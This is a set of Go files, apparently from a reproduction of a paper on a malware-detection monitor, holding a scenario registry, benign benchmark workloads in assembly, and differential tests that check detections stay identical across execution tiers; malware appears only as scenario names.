// RunOutcome is the result of one scenario in a RunAll sweep.
type RunOutcome struct {
	Scenario *Scenario
	Result   *hth.Result
	Err      error
	// Problems holds the Check() discrepancies; empty with a nil Err
	// means the scenario reproduced the paper's row.
	Problems []string
}

// Reproduced reports whether the scenario ran and matched expectation.
func (o *RunOutcome) Reproduced() bool {
	return o.Err == nil && len(o.Problems) == 0
}

// RunAll executes the scenarios on a pool of the given width
// (parallelism <= 0 selects GOMAXPROCS) and returns one outcome per
// scenario, in input order. Every scenario builds a private
// hth.System, and the shared registry is read-only, so concurrent
// runs share no mutable state: a sweep's outcomes are identical at
// any parallelism, including 1.
func RunAll(scenarios []*Scenario, parallelism int) []RunOutcome {
	if parallelism <= 0 {
		parallelism = runtime.GOMAXPROCS(0)
	}
	if parallelism > len(scenarios) {
		parallelism = len(scenarios)
	}
	out := make([]RunOutcome, len(scenarios))
	var wg sync.WaitGroup
	work := make(chan int)
	for w := 0; w < parallelism; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range work {
				sc := scenarios[i]
				o := RunOutcome{Scenario: sc}
				o.Result, o.Err = sc.Run()
				if o.Err == nil {
					o.Problems = sc.Check(o.Result)
				}
				out[i] = o
			}
		}()
	}
	for i := range scenarios {
		work <- i
	}
	close(work)
	wg.Wait()
	return out
}
