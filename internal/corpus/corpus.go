// Package corpus reproduces every workload of the paper's evaluation
// (§8): the execution-flow, resource-abuse and information-flow micro
// benchmarks (Tables 4–6), the trusted-program suite (Table 7 / §8.2),
// the real exploits (Table 8 / §8.3), and the macro benchmarks
// (§8.4) — each as a guest program (or set of programs, files and
// scripted network peers) with the paper-reported expectation attached.
//
// Where the paper's result depends on a documented *gap* in the
// prototype (pico's spurious High, grabem's missed USER source,
// pwsafe's missed database source), the corpus program reproduces the
// observable behaviour of that gap; each such place is commented.
package corpus

import (
	"fmt"
	"sort"
	"strings"

	hth "repro"
	"repro/internal/secpert"
)

// ExpectWarning is one warning the paper reports for a scenario.
type ExpectWarning struct {
	Severity secpert.Severity
	Contains string // substring of the warning message
	Rule     string // optional rule-name constraint
}

// Expectation encodes the paper-reported outcome of a scenario.
type Expectation struct {
	// Clean means no warnings at all (correctly classified benign).
	Clean bool
	// Warnings must each be present.
	Warnings []ExpectWarning
	// Capped caps every warning's severity at Cap (e.g. xeyes: "All
	// the warning generated were of Low severity", §8.2.11).
	Capped bool
	Cap    secpert.Severity
	// ExactCount, when >= 0, pins the total warning count; use -1 for
	// "any count". The zero value is normalized to -1 unless Clean.
	ExactCount int
}

// Scenario is one reproducible workload.
type Scenario struct {
	Name  string
	Table string // "T4", "T5", "T6", "T7", "T8", "M1", "M2", "M3"
	Row   string // the paper's row label, e.g. "Hardcode"
	Desc  string

	Setup func(sys *hth.System)
	Spec  hth.RunSpec
	Tweak func(cfg *hth.Config)

	Expect Expectation
}

var registry []*Scenario

func register(sc *Scenario) *Scenario {
	if sc.Expect.ExactCount == 0 && !sc.Expect.Clean {
		sc.Expect.ExactCount = -1
	}
	registry = append(registry, sc)
	return sc
}

// All returns every scenario, stable-sorted by table then name.
func All() []*Scenario {
	out := append([]*Scenario(nil), registry...)
	sort.SliceStable(out, func(i, j int) bool {
		if out[i].Table != out[j].Table {
			return out[i].Table < out[j].Table
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// ByTable returns the scenarios of one table in registration order.
func ByTable(table string) []*Scenario {
	var out []*Scenario
	for _, sc := range registry {
		if sc.Table == table {
			out = append(out, sc)
		}
	}
	return out
}

// ByName finds a scenario.
func ByName(name string) (*Scenario, bool) {
	for _, sc := range registry {
		if sc.Name == name {
			return sc, true
		}
	}
	return nil, false
}

// Run executes the scenario and returns the monitored result.
func (sc *Scenario) Run() (*hth.Result, error) { return sc.RunWith(nil) }

// RunWith executes the scenario with an extra configuration override
// applied after the scenario's own Tweak — the hook sweep harnesses
// use to attach chaos plans and resource budgets without touching the
// scenario definitions.
func (sc *Scenario) RunWith(extra func(*hth.Config)) (*hth.Result, error) {
	sys := hth.NewSystem()
	if sc.Setup != nil {
		sc.Setup(sys)
	}
	cfg := hth.DefaultConfig()
	if sc.Tweak != nil {
		sc.Tweak(&cfg)
	}
	if extra != nil {
		extra(&cfg)
	}
	return sys.Run(cfg, sc.Spec)
}

// Check validates a result against the scenario's expectation,
// returning a list of discrepancies (empty = reproduced).
func (sc *Scenario) Check(res *hth.Result) []string {
	var problems []string
	e := sc.Expect
	if e.Clean && len(res.Warnings) > 0 {
		problems = append(problems,
			fmt.Sprintf("expected no warnings, got %d: %v", len(res.Warnings), heads(res)))
	}
	for _, want := range e.Warnings {
		if !hasWarning(res, want) {
			problems = append(problems, fmt.Sprintf(
				"missing [%s] warning containing %q (rule %q); got %v",
				want.Severity, want.Contains, want.Rule, heads(res)))
		}
	}
	if e.Capped {
		for _, w := range res.Warnings {
			if w.Severity > e.Cap {
				problems = append(problems, fmt.Sprintf(
					"warning above allowed severity: [%s] %.60q", w.Severity, w.Message))
			}
		}
	}
	if e.ExactCount >= 0 && len(res.Warnings) != e.ExactCount {
		problems = append(problems, fmt.Sprintf(
			"expected exactly %d warnings, got %d: %v", e.ExactCount, len(res.Warnings), heads(res)))
	}
	return problems
}

func hasWarning(res *hth.Result, want ExpectWarning) bool {
	for _, w := range res.Warnings {
		if w.Severity != want.Severity {
			continue
		}
		if want.Rule != "" && w.Rule != want.Rule {
			continue
		}
		if strings.Contains(w.Message, want.Contains) {
			return true
		}
	}
	return false
}

// heads summarizes warnings for diagnostics.
func heads(res *hth.Result) []string {
	out := make([]string, len(res.Warnings))
	for i, w := range res.Warnings {
		first := w.Message
		if nl := strings.IndexByte(first, '\n'); nl >= 0 {
			first = first[:nl]
		}
		out[i] = fmt.Sprintf("[%s] %s", w.Severity, first)
	}
	return out
}

// Verdict renders the scenario outcome as the paper's tables do.
func (sc *Scenario) Verdict(res *hth.Result) string {
	problems := sc.Check(res)
	if len(problems) == 0 {
		return "reproduced"
	}
	return "DIVERGED: " + problems[0]
}

// Outcome summarizes what HTH reported, for the table renderers.
func Outcome(res *hth.Result) string {
	if len(res.Warnings) == 0 {
		return "no warnings"
	}
	counts := map[secpert.Severity]int{}
	for _, w := range res.Warnings {
		counts[w.Severity]++
	}
	var parts []string
	for _, sev := range []secpert.Severity{secpert.High, secpert.Medium, secpert.Low} {
		if counts[sev] > 0 {
			parts = append(parts, fmt.Sprintf("%d %s", counts[sev], sev))
		}
	}
	return strings.Join(parts, ", ")
}
