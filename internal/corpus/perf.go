package corpus

import (
	"fmt"

	hth "repro"
)

// §9 — Performance evaluation workloads. The paper identifies data
// flow tracking as Harrier's main bottleneck (every data-moving
// instruction is instrumented). These guests let the benches compare:
//
//	bare        — no monitor attached (native interpreter speed)
//	nodataflow  — Harrier without Track_DataFlow
//	full        — the complete prototype
//
// aluWorkload is register-arithmetic heavy: the worst case for
// per-instruction instrumentation overhead.
const aluWorkload = `
.text
_start:
    mov esi, 30000      ; iterations
    mov eax, 0
    mov ebx, 0x12345
loop:
    add eax, esi
    xor eax, ebx
    shl eax, 1
    or  eax, 0x5A5A
    and eax, 0xFFFFFF
    sub ebx, 3
    dec esi
    jnz loop
    hlt
`

// memWorkload is memory-traffic heavy: the worst case for shadow
// lookups and tag unions.
const memWorkload = `
.text
_start:
    mov esi, 2000       ; passes
pass:
    mov edi, 0
copyloop:
    mov ecx, src
    add ecx, edi
    mov eax, [ecx]
    mov ecx, dst
    add ecx, edi
    mov [ecx], eax
    add edi, 4
    cmp edi, 64
    jl copyloop
    dec esi
    jnz pass
    hlt
.data
src: .space 64, 0xAB
dst: .space 64
`

// sparseWorkload is a block-copy kernel with taint in the picture but
// never in the path: stdin — a taint source — lands in tbuf, while
// the hot loop streams words between two scratch pages at
// 0x200000/0x201000, runtime-written memory far from both tbuf's
// shadow page and the binary image (whose bytes the loader tags at
// load time). This is the regime the clean tier targets: the moving
// pointer defeats the value-keyed clean-taint gate (128 distinct edi
// values per pass against 16 gate ways), so the trace tier pays the
// full word-granular shadow transfer on every entry — yet the loop's
// whole footprint stays on taint-free pages, so the value-independent
// clean proof holds everywhere and the clean tier runs the copy at
// concrete speed.
const sparseWorkload = `
.text
_start:
    mov ebx, 0
    mov ecx, tbuf
    mov edx, 64
    mov eax, 3          ; read(stdin): taints tbuf's page only
    int 0x80
    xor eax, eax
    mov edi, 0
seed:
    mov ecx, 0x200000   ; scratch buffers: runtime memory, never
    add ecx, edi        ; binary-tagged; seeding through a zeroed
    mov [ecx], eax      ; register keeps their shadow pages untouched
    add edi, 4
    cmp edi, 4096
    jl seed
    mov esi, 60         ; passes
pass:
    mov edi, 0
copyloop:
    mov ecx, 0x200000   ; src page; dst = the adjacent clean page,
    add ecx, edi        ; addressed as [ecx+0x1000+d]
    mov eax, [ecx]
    mov [ecx+0x1000], eax
    mov eax, [ecx+4]
    mov [ecx+0x1004], eax
    mov eax, [ecx+8]
    mov [ecx+0x1008], eax
    mov eax, [ecx+12]
    mov [ecx+0x100c], eax
    mov eax, [ecx+16]
    mov [ecx+0x1010], eax
    mov eax, [ecx+20]
    mov [ecx+0x1014], eax
    mov eax, [ecx+24]
    mov [ecx+0x1018], eax
    mov eax, [ecx+28]
    mov [ecx+0x101c], eax
    add edi, 32
    cmp edi, 4096
    jl copyloop
    dec esi
    jnz pass
    hlt
.data
tbuf: .space 64
`

// PerfMode selects the monitoring level for the performance benches.
type PerfMode int

// Performance modes.
const (
	PerfBare PerfMode = iota
	PerfNoDataflow
	PerfFull
)

// String names the mode.
func (m PerfMode) String() string {
	switch m {
	case PerfBare:
		return "bare"
	case PerfNoDataflow:
		return "nodataflow"
	case PerfFull:
		return "full"
	}
	return "?"
}

// PerfWorkloads names the available performance guests.
func PerfWorkloads() []string { return []string{"alu", "mem", "sparse"} }

// RunPerf executes the named workload under the given mode and
// returns the result (inspect TotalSteps for the work done).
func RunPerf(workload string, mode PerfMode) (*hth.Result, error) {
	return RunPerfObserved(workload, mode)
}

// RunPerfObserved is RunPerf with observers attached to the run's
// event bus — hth-bench feeds every perf run into one shared
// hth.Metrics registry this way. No observers means a disabled bus,
// i.e. exactly RunPerf.
func RunPerfObserved(workload string, mode PerfMode, observers ...hth.Observer) (*hth.Result, error) {
	return RunPerfWith(workload, mode, nil, observers...)
}

// RunPerfWith is RunPerfObserved with a configuration hook applied
// just before the run — the tier A/B benchmarks pin PromoteThreshold
// through it without the perf workloads leaking out of this package.
func RunPerfWith(workload string, mode PerfMode, tweak func(*hth.Config), observers ...hth.Observer) (*hth.Result, error) {
	sys := hth.NewSystem()
	// Batch-sized scheduler quantum: these are single-process
	// throughput guests, so fairness granularity buys nothing and the
	// default interactive slice (128) would leave a tail too short for
	// a compiled trace at the end of every slice — measuring the
	// interpreter, not the tier under test. Applied across all modes,
	// so every A/B comparison sees the same scheduling.
	sys.OS.SetStepsPerSlice(4096)
	spec := hth.RunSpec{Path: "/bin/" + workload}
	switch workload {
	case "alu":
		sys.MustInstallSource("/bin/alu", aluWorkload)
	case "mem":
		sys.MustInstallSource("/bin/mem", memWorkload)
	case "sparse":
		sys.MustInstallSource("/bin/sparse", sparseWorkload)
		spec.Stdin = []byte("sparse-taint: 64 bytes of external payload, page-isolated...")
	default:
		return nil, fmt.Errorf("corpus: unknown perf workload %q", workload)
	}
	cfg := hth.DefaultConfig()
	switch mode {
	case PerfBare:
		cfg.Unmonitored = true
	case PerfNoDataflow:
		cfg.Monitor.Dataflow = false
	}
	cfg.Observers = observers
	if tweak != nil {
		tweak(&cfg)
	}
	return sys.Run(cfg, spec)
}
