package corpus

import (
	"fmt"

	hth "repro"
)

// §9 — Performance evaluation workloads. The paper identifies data
// flow tracking as Harrier's main bottleneck (every data-moving
// instruction is instrumented). These guests let the benches compare:
//
//	bare        — no monitor attached (native interpreter speed)
//	nodataflow  — Harrier without Track_DataFlow
//	full        — the complete prototype
//
// aluWorkload is register-arithmetic heavy: the worst case for
// per-instruction instrumentation overhead.
const aluWorkload = `
.text
_start:
    mov esi, 30000      ; iterations
    mov eax, 0
    mov ebx, 0x12345
loop:
    add eax, esi
    xor eax, ebx
    shl eax, 1
    or  eax, 0x5A5A
    and eax, 0xFFFFFF
    sub ebx, 3
    dec esi
    jnz loop
    hlt
`

// memWorkload is memory-traffic heavy: the worst case for shadow
// lookups and tag unions.
const memWorkload = `
.text
_start:
    mov esi, 2000       ; passes
pass:
    mov edi, 0
copyloop:
    mov ecx, src
    add ecx, edi
    mov eax, [ecx]
    mov ecx, dst
    add ecx, edi
    mov [ecx], eax
    add edi, 4
    cmp edi, 64
    jl copyloop
    dec esi
    jnz pass
    hlt
.data
src: .space 64, 0xAB
dst: .space 64
`

// PerfMode selects the monitoring level for the performance benches.
type PerfMode int

// Performance modes.
const (
	PerfBare PerfMode = iota
	PerfNoDataflow
	PerfFull
)

// String names the mode.
func (m PerfMode) String() string {
	switch m {
	case PerfBare:
		return "bare"
	case PerfNoDataflow:
		return "nodataflow"
	case PerfFull:
		return "full"
	}
	return "?"
}

// PerfWorkloads names the available performance guests.
func PerfWorkloads() []string { return []string{"alu", "mem"} }

// RunPerf executes the named workload under the given mode and
// returns the result (inspect TotalSteps for the work done).
func RunPerf(workload string, mode PerfMode) (*hth.Result, error) {
	return RunPerfObserved(workload, mode)
}

// RunPerfObserved is RunPerf with observers attached to the run's
// event bus — hth-bench feeds every perf run into one shared
// hth.Metrics registry this way. No observers means a disabled bus,
// i.e. exactly RunPerf.
func RunPerfObserved(workload string, mode PerfMode, observers ...hth.Observer) (*hth.Result, error) {
	return RunPerfWith(workload, mode, nil, observers...)
}

// RunPerfWith is RunPerfObserved with a configuration hook applied
// just before the run — the tier A/B benchmarks pin PromoteThreshold
// through it without the perf workloads leaking out of this package.
func RunPerfWith(workload string, mode PerfMode, tweak func(*hth.Config), observers ...hth.Observer) (*hth.Result, error) {
	sys := hth.NewSystem()
	switch workload {
	case "alu":
		sys.MustInstallSource("/bin/alu", aluWorkload)
	case "mem":
		sys.MustInstallSource("/bin/mem", memWorkload)
	default:
		return nil, fmt.Errorf("corpus: unknown perf workload %q", workload)
	}
	cfg := hth.DefaultConfig()
	switch mode {
	case PerfBare:
		cfg.Unmonitored = true
	case PerfNoDataflow:
		cfg.Monitor.Dataflow = false
	}
	cfg.Observers = observers
	if tweak != nil {
		tweak(&cfg)
	}
	return sys.Run(cfg, hth.RunSpec{Path: "/bin/" + workload})
}
