package corpus

import (
	"context"
	"fmt"
	"testing"
	"time"

	hth "repro"
)

// TestServiceSweepSignatureIdentity is the service half of the
// identity gate: every corpus scenario submitted through hth.Service
// (no chaos plan, quiet shards → no shedding) must produce a sweep
// signature element-wise identical to the batch RunAll sweep. The
// service's queueing, sharding, and budget clamps must be invisible
// to detection.
func TestServiceSweepSignatureIdentity(t *testing.T) {
	scs := All()
	if len(scs) == 0 {
		t.Fatal("empty corpus")
	}
	batch := SweepSignature(RunAll(scs, 0))

	// Generous queue so no scenario is shed or rejected: identity is
	// the point here, load behaviour is pinned elsewhere.
	svc := hth.NewService(hth.ServiceConfig{
		Shards: 4, WorkersPerShard: 2, QueueDepth: len(scs),
	})
	handles := make([]*hth.JobHandle, len(scs))
	for i, sc := range scs {
		h, err := svc.Submit(hth.JobSpec{
			Tenant: sc.Table,
			Setup:  sc.Setup,
			Tweak:  sc.Tweak,
			Path:   sc.Spec.Path,
			Argv:   sc.Spec.Argv,
			Env:    sc.Spec.Env,
			Stdin:  sc.Spec.Stdin,
		})
		if err != nil {
			t.Fatalf("submit %s: %v", sc.Name, err)
		}
		handles[i] = h
	}
	outs := make([]RunOutcome, len(scs))
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	for i, h := range handles {
		res, err := h.Wait(ctx)
		if err != nil {
			t.Fatalf("scenario %s never terminated: %v", scs[i].Name, err)
		}
		outs[i] = RunOutcome{Scenario: scs[i]}
		if res.Status != "done" {
			outs[i].Err = fmt.Errorf("service status %q: %v", res.Status, res.Error)
			continue
		}
		outs[i].Result = res.Raw
		outs[i].Problems = scs[i].Check(res.Raw)
	}
	service := SweepSignature(outs)
	for i := range batch {
		if service[i] != batch[i] {
			t.Errorf("signature drift through the service:\n  batch:   %s\n  service: %s",
				batch[i], service[i])
		}
	}
	dctx, dcancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer dcancel()
	if err := svc.Drain(dctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
}
