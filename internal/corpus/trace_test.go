package corpus

import (
	"testing"

	hth "repro"
)

// TestTraceDifferentialSweep is the trace tier's correctness gate,
// mirroring TestTierDifferentialSweep one rung up the ladder: the full
// corpus runs with the trace tier disabled (summary tier only) and
// with aggressive trace promotion, crossed with provenance recording
// on and off, and the sweep signatures must match element-wise in
// every cell. Detections, reported tag sets and injected faults are
// therefore bit-identical whether blocks execute in the interpreter,
// as summaries, as compiled traces, or through the clean-taint gate's
// tag-free fast path.
func TestTraceDifferentialSweep(t *testing.T) {
	scs := All()
	cell := func(traceThreshold int, prov bool) []RunOutcome {
		return RunAllWith(scs, 0, func(_ *Scenario, cfg *hth.Config) {
			cfg.Monitor.PromoteThreshold = 1
			cfg.Monitor.TraceThreshold = traceThreshold
			cfg.Provenance = prov
		})
	}
	base := cell(0, false)
	ref := SweepSignature(base)
	for _, c := range []struct {
		name           string
		traceThreshold int
		prov           bool
	}{
		{"traces", 2, false},
		{"traces+prov", 2, true},
		{"prov-only", 0, true},
	} {
		got := SweepSignature(cell(c.traceThreshold, c.prov))
		for i := range ref {
			if ref[i] != got[i] {
				t.Errorf("%s divergence:\n  base: %s\n  %s: %s", c.name, ref[i], c.name, got[i])
			}
		}
	}
	// The traced cells must actually have exercised the trace tier —
	// and the gate — or the comparison proves nothing.
	traced := cell(2, false)
	hits, gated := 0, 0
	for _, o := range traced {
		if o.Result == nil {
			continue
		}
		if o.Result.Stats.TraceHits > 0 {
			hits++
		}
		if o.Result.Stats.GateSkips > 0 {
			gated++
		}
	}
	if hits == 0 {
		t.Fatal("no scenario took the trace tier; differential sweep is vacuous")
	}
	if gated == 0 {
		t.Fatal("no scenario took the clean-taint gate; the bare path is untested")
	}
	t.Logf("trace tier exercised by %d/%d scenarios, gate by %d", hits, len(traced), gated)
}
