package corpus

import (
	"testing"
)

// runTable executes every scenario of a table and checks the
// paper-reported expectations.
func runTable(t *testing.T, table string) {
	t.Helper()
	scs := ByTable(table)
	if len(scs) == 0 {
		t.Fatalf("no scenarios registered for %s", table)
	}
	for _, sc := range scs {
		sc := sc
		t.Run(sc.Name, func(t *testing.T) {
			res, err := sc.Run()
			if err != nil {
				t.Fatalf("setup/run: %v", err)
			}
			for _, p := range sc.Check(res) {
				t.Error(p)
			}
		})
	}
}

func TestTable4ExecutionFlow(t *testing.T)   { runTable(t, "T4") }
func TestTable5ResourceAbuse(t *testing.T)   { runTable(t, "T5") }
func TestTable6InformationFlow(t *testing.T) { runTable(t, "T6") }

func TestScenarioLookup(t *testing.T) {
	if _, ok := ByName("execve-hardcode"); !ok {
		t.Error("execve-hardcode not registered")
	}
	if _, ok := ByName("nonexistent"); ok {
		t.Error("found nonexistent scenario")
	}
	if len(All()) < 25 {
		t.Errorf("registry unexpectedly small: %d", len(All()))
	}
}

func TestTable7TrustedPrograms(t *testing.T) { runTable(t, "T7") }

func TestTable8RealExploits(t *testing.T) { runTable(t, "T8") }

func TestMacroBenchmarks(t *testing.T) {
	runTable(t, "M1")
	runTable(t, "M2")
	runTable(t, "M3")
}

func TestPerfWorkloads(t *testing.T) {
	for _, wl := range PerfWorkloads() {
		for _, mode := range []PerfMode{PerfBare, PerfNoDataflow, PerfFull} {
			res, err := RunPerf(wl, mode)
			if err != nil {
				t.Fatalf("%s/%s: %v", wl, mode, err)
			}
			if res.TotalSteps < 10000 {
				t.Errorf("%s/%s: only %d steps", wl, mode, res.TotalSteps)
			}
			if res.Process.Fault != nil {
				t.Errorf("%s/%s: fault %v", wl, mode, res.Process.Fault)
			}
			if len(res.Warnings) != 0 {
				t.Errorf("%s/%s: unexpected warnings %v", wl, mode, res.Warnings)
			}
			if mode == PerfBare && res.Stats.Instructions != 0 {
				t.Errorf("bare mode instrumented instructions")
			}
			if mode == PerfFull && res.Stats.Instructions == 0 {
				t.Errorf("full mode did not instrument")
			}
		}
	}
}

func TestRunPerfUnknown(t *testing.T) {
	if _, err := RunPerf("bogus", PerfFull); err == nil {
		t.Error("unknown workload accepted")
	}
}

func TestTable1MalwareModels(t *testing.T) { runTable(t, "T1") }

func TestTable1PatternColumns(t *testing.T) {
	// Regenerating Table 1: each model's detected execution patterns.
	want := map[string][3]bool{ // hardcoded, remote, degrading
		"pwsteal-tarno":      {true, false, false},
		"lodeight":           {true, true, false},
		"vundo":              {false, false, true},
		"mydoom":             {true, true, false},
		"phatbot":            {true, true, false},
		"sendmail-trojan":    {false, true, false},
		"tcpwrappers-trojan": {true, false, false},
	}
	for name, w := range want {
		sc, ok := ByName(name)
		if !ok {
			t.Fatalf("scenario %s missing", name)
		}
		res, err := sc.Run()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		hard, remote, degrading := Table1Row(res)
		if hard != w[0] || remote != w[1] || degrading != w[2] {
			t.Errorf("%s: (hardcoded,remote,degrading) = (%v,%v,%v), want (%v,%v,%v)",
				name, hard, remote, degrading, w[0], w[1], w[2])
		}
	}
}

// TestDeterminism: every scenario must produce byte-identical results
// across runs — the property that makes the simulator substitution
// reviewable (DESIGN.md §2).
func TestDeterminism(t *testing.T) {
	for _, name := range []string{"pma", "superforker", "execve-remote", "mytob", "xeyes"} {
		sc, ok := ByName(name)
		if !ok {
			t.Fatalf("scenario %s missing", name)
		}
		r1, err := sc.Run()
		if err != nil {
			t.Fatal(err)
		}
		r2, err := sc.Run()
		if err != nil {
			t.Fatal(err)
		}
		if r1.TotalSteps != r2.TotalSteps {
			t.Errorf("%s: steps %d vs %d", name, r1.TotalSteps, r2.TotalSteps)
		}
		if string(r1.Console) != string(r2.Console) {
			t.Errorf("%s: console differs", name)
		}
		if len(r1.Warnings) != len(r2.Warnings) {
			t.Fatalf("%s: warning counts differ: %d vs %d", name, len(r1.Warnings), len(r2.Warnings))
		}
		for i := range r1.Warnings {
			if r1.Warnings[i].Message != r2.Warnings[i].Message ||
				r1.Warnings[i].Severity != r2.Warnings[i].Severity {
				t.Errorf("%s: warning %d differs", name, i)
			}
		}
	}
}
