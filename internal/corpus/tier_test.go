package corpus

import (
	"testing"

	hth "repro"
	"repro/internal/harrier"
	"repro/internal/taint"
)

// TestTierDifferentialSweep is the tiered engine's correctness gate:
// the full corpus runs twice, once with every block pinned to the
// interpreter tier (PromoteThreshold=0) and once with promotion after
// a single execution (PromoteThreshold=1), and the sweep signatures —
// executed steps, scheduler outcome, reproduction problems, injected
// faults, and an FNV-64a hash over the full warning text — must match
// element-wise. Detections and reported tag sets are therefore
// bit-identical across tiers for every scenario in the corpus.
func TestTierDifferentialSweep(t *testing.T) {
	scs := All()
	interp := RunAllWith(scs, 0, func(_ *Scenario, cfg *hth.Config) {
		cfg.Monitor.PromoteThreshold = 0
	})
	tiered := RunAllWith(scs, 0, func(_ *Scenario, cfg *hth.Config) {
		cfg.Monitor.PromoteThreshold = 1
	})
	a, b := SweepSignature(interp), SweepSignature(tiered)
	for i := range a {
		if a[i] != b[i] {
			t.Errorf("tier divergence:\n  interpreter: %s\n  tiered:      %s", a[i], b[i])
		}
	}
	// The tiered sweep must actually have exercised the summary tier,
	// or the comparison proves nothing.
	promoted := 0
	for _, o := range tiered {
		if o.Result != nil && o.Result.Stats.TierHits > 0 {
			promoted++
		}
	}
	if promoted == 0 {
		t.Fatal("no scenario took the summary tier; differential sweep is vacuous")
	}
}

// TestSummaryCompileDeterministic is the compiler's property test:
// compiling the same block twice against the same store yields the
// same op list, byte for byte in canonical form. The guarantee is what
// makes re-promotion after an execve demotion (and re-pinning of
// shared spans) sound.
func TestSummaryCompileDeterministic(t *testing.T) {
	compiled, pinned := 0, 0
	for _, sc := range All() {
		res, err := sc.Run()
		if err != nil || res == nil || res.Process == nil {
			continue
		}
		st := taint.NewStore()
		for _, s := range res.Process.CPU.Code.Spans() {
			for i := range s.Instrs {
				if s.BBLeader[i] != i {
					continue
				}
				s1, ok1 := harrier.CompileSummary(st, s, i)
				s2, ok2 := harrier.CompileSummary(st, s, i)
				if ok1 != ok2 {
					t.Fatalf("%s %s+%d: compile verdict flapped: %v then %v",
						sc.Name, s.Image, i, ok1, ok2)
				}
				if !ok1 {
					pinned++
					continue
				}
				compiled++
				if s1.String() != s2.String() {
					t.Errorf("%s %s+%d: nondeterministic compile:\n--- first\n%s--- second\n%s",
						sc.Name, s.Image, i, s1.String(), s2.String())
				}
			}
		}
	}
	if compiled == 0 {
		t.Fatal("no block compiled anywhere in the corpus; property test is vacuous")
	}
	t.Logf("corpus blocks: %d compiled, %d pinned", compiled, pinned)
}
