package corpus

import (
	"testing"

	hth "repro"
)

// TestSpanDifferentialSweep is the span plane's inertness gate: the
// full corpus runs with lifecycle spans off (the default) and on, and
// the sweep signatures must match element-wise. Span recording samples
// wall clocks and publishes events, but it must never perturb what the
// monitor observes — detections, tag sets, warning order, step counts —
// or the observability layer has become part of the experiment.
func TestSpanDifferentialSweep(t *testing.T) {
	scs := All()
	base := SweepSignature(RunAll(scs, 0))
	spanned := SweepSignature(RunAllWith(scs, 0, func(_ *Scenario, cfg *hth.Config) {
		cfg.Spans = true
	}))
	for i := range base {
		if base[i] != spanned[i] {
			t.Errorf("span-armed divergence:\n  off: %s\n  on:  %s", base[i], spanned[i])
		}
	}
}
