package corpus

import (
	"testing"

	hth "repro"
)

// TestCleanTierDifferentialSweep is the clean tier's correctness gate,
// one rung above TestTraceDifferentialSweep: the full corpus (ELF
// fixtures included) runs with the clean tier off and on, crossed with
// the trace tier off and on, and the sweep signatures must match
// element-wise in every cell. Detections, reported tag sets, warning
// order and guest faults are therefore bit-identical whether a block
// executes instrumented (interpreter, summary, trace) or demoted to
// the uninstrumented clean variant — the tier can only ever skip
// transfer that was proven a no-op, never a detection.
func TestCleanTierDifferentialSweep(t *testing.T) {
	scs := All()
	cell := func(cleanThreshold, traceThreshold int) []RunOutcome {
		return RunAllWith(scs, 0, func(_ *Scenario, cfg *hth.Config) {
			cfg.Monitor.PromoteThreshold = 1
			cfg.Monitor.TraceThreshold = traceThreshold
			cfg.Monitor.CleanThreshold = cleanThreshold
		})
	}
	base := cell(0, 0)
	ref := SweepSignature(base)
	for _, c := range []struct {
		name           string
		cleanThreshold int
		traceThreshold int
	}{
		{"clean", 1, 0},
		{"traces", 0, 2},
		{"clean+traces", 1, 2},
	} {
		got := SweepSignature(cell(c.cleanThreshold, c.traceThreshold))
		for i := range ref {
			if ref[i] != got[i] {
				t.Errorf("%s divergence:\n  base: %s\n  %s: %s", c.name, ref[i], c.name, got[i])
			}
		}
	}
	// The clean cells must actually have demoted blocks — and the
	// re-instrumentation seam must have fired somewhere — or the
	// comparison proves nothing.
	for _, c := range []struct {
		name           string
		traceThreshold int
	}{{"clean", 0}, {"clean+traces", 2}} {
		outs := cell(1, c.traceThreshold)
		hits, reinst := 0, 0
		for _, o := range outs {
			if o.Result == nil {
				continue
			}
			if o.Result.Stats.CleanHits > 0 {
				hits++
			}
			if o.Result.Stats.Reinstrumented > 0 {
				reinst++
			}
		}
		if hits == 0 {
			t.Fatalf("%s: no scenario took the clean tier; differential sweep is vacuous", c.name)
		}
		t.Logf("%s: clean tier exercised by %d/%d scenarios, re-instrumentation by %d",
			c.name, hits, len(outs), reinst)
	}
}
