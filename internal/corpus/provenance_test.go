package corpus

import (
	"testing"

	hth "repro"
)

// TestProvenanceDifferentialSweep is the provenance acceptance gate:
// recording provenance must be a pure observer. The full corpus runs
// four ways — provenance off/on crossed with the interpreter and
// summary tiers — and the sweep signatures (steps, outcome, problems,
// faults, warning-text hash) must match element-wise across all four.
// On top of bit-identity, every warning emitted with provenance on
// must carry a non-empty causal chain, and warnings with provenance
// off must carry none.
func TestProvenanceDifferentialSweep(t *testing.T) {
	scs := All()
	sweep := func(prov bool, threshold int) []RunOutcome {
		return RunAllWith(scs, 0, func(_ *Scenario, cfg *hth.Config) {
			cfg.Provenance = prov
			cfg.Monitor.PromoteThreshold = threshold
		})
	}
	off0 := sweep(false, 0)
	off1 := sweep(false, 1)
	on0 := sweep(true, 0)
	on1 := sweep(true, 1)

	base := SweepSignature(off0)
	for name, other := range map[string][]RunOutcome{
		"tiered":            off1,
		"provenance":        on0,
		"provenance+tiered": on1,
	} {
		sig := SweepSignature(other)
		for i := range base {
			if base[i] != sig[i] {
				t.Errorf("%s sweep diverged from baseline:\n  baseline: %s\n  %s: %s",
					name, base[i], name, sig[i])
			}
		}
	}

	// Chains: always present with provenance on, never without.
	warned := 0
	for _, outs := range [][]RunOutcome{on0, on1} {
		for _, o := range outs {
			if o.Result == nil {
				continue
			}
			for _, w := range o.Result.Warnings {
				warned++
				if len(w.Chain) == 0 {
					t.Errorf("%s: warning %q has no provenance chain", o.Scenario.Name, w.Rule)
				}
			}
		}
	}
	for _, o := range append(append([]RunOutcome(nil), off0...), off1...) {
		if o.Result == nil {
			continue
		}
		for _, w := range o.Result.Warnings {
			if len(w.Chain) != 0 {
				t.Errorf("%s: provenance-off warning %q carries a chain %v", o.Scenario.Name, w.Rule, w.Chain)
			}
		}
	}

	// Non-vacuity: the sweeps must have warned and taken the summary tier.
	if warned == 0 {
		t.Fatal("no warnings across provenance sweeps; chain check is vacuous")
	}
	promoted := 0
	for _, o := range on1 {
		if o.Result != nil && o.Result.Stats.TierHits > 0 {
			promoted++
		}
	}
	if promoted == 0 {
		t.Fatal("no scenario took the summary tier with provenance on; differential is vacuous")
	}
}
